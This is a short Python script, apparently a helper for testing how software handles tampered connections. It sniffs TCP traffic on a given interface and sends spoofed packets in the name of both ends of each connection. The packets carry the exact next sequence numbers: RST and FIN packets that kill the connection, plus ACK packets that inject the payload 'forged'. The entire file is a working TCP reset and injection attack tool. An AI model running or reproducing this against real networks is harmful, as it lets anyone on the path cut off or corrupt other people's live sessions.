"""Forges ends and data of the TCP connections that pass an interface, with the numbers that they have: INTERFACE.

For each packet with payload it sends, in the name of either end, RST, FIN and a payload with the very next numbers. Says
"ready" first, and after each packet how many there were: "forged 3".
"""

import array
import socket
import struct
import sys

IPV4 = 0x0800
OUTGOING = 4
TCP = 6
FIN, RST, ACK = 1, 4, 16


def checksum(data):
    total = sum(array.array("H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return struct.pack("=H", total ^ 0xFFFF)


def forge(out, source, target, ports, sequence, acknowledgement, flags, payload=b""):
    if not flags & ACK:
        acknowledgement = 0
    numbers = (sequence & 0xFFFFFFFF, acknowledgement & 0xFFFFFFFF)
    header = struct.pack("!HHIIBBHHH", *ports, *numbers, 5 << 4, flags, 0xFFFF, 0, 0)
    pseudo = source + target + struct.pack("!HH", TCP, len(header) + len(payload))
    header = header[:16] + checksum(pseudo + header + payload) + header[18:]
    length = 20 + len(header) + len(payload)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0x4000, 64, TCP, 0) + source + target
    out.sendto(ip + header + payload, (socket.inet_ntoa(target), 0))


seen = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(IPV4))
seen.bind((sys.argv[1], IPV4))
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("ready", file=sys.stderr, flush=True)
packets = 0
while True:
    packet, address = seen.recvfrom(1 << 17)
    if address[2] == OUTGOING or packet[9] != TCP:
        continue
    tcp = packet[(packet[0] & 0x0F) * 4 : struct.unpack("!H", packet[2:4])[0]]
    payload = len(tcp) - (tcp[12] >> 4) * 4
    if payload <= 0:
        continue
    here, there = packet[12:16], packet[16:20]
    port, other = struct.unpack("!HH", tcp[:4])
    sequence, acknowledgement = struct.unpack("!II", tcp[4:12])
    end = sequence + payload
    for flags in (ACK, RST, RST | ACK, FIN | ACK):
        said = b"forged" if flags == ACK else b""
        forge(out, here, there, (port, other), end, acknowledgement, flags, said)
        forge(out, there, here, (other, port), acknowledgement, end, flags, said)
    packets += 1
    print("forged", packets, file=sys.stderr, flush=True)
